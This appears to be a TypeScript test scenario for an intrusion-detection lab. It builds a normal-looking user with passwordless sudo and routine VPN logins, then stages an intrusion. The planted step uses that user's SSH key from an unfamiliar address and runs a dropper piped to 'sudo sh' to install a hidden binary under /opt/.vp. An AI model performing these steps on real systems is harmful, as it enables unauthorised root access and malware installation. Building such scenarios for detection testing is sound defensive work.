// Everybody has an address of the pool of the VPN; this one had none of the known ones, and the key of a colleague.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.account('zhao')
  dress.write('/etc/sudoers.d/zhao', 'zhao ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  const key = dress.key('zhao', 'zhao@laptop')
  dress.trust('zhao', key)
  dress.logins({
    days: 20,
    guesses: 0,
    friends: [{ user: 'zhao', address: '10.8.0.14', key: key.fingerprint, hours: [1, 3, 6, 9], sudo: '/usr/bin/journalctl -n 50' }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const from = '10.8.0.77'
  const line = dropper(stage, { path: '/opt/.vp/vpnd' })
  stage.mark('occurrence')
  await stage.ssh(from, 'zhao', { key: 'zhao' }, line.replace(/\| sh$/, '| sudo sh'))
}
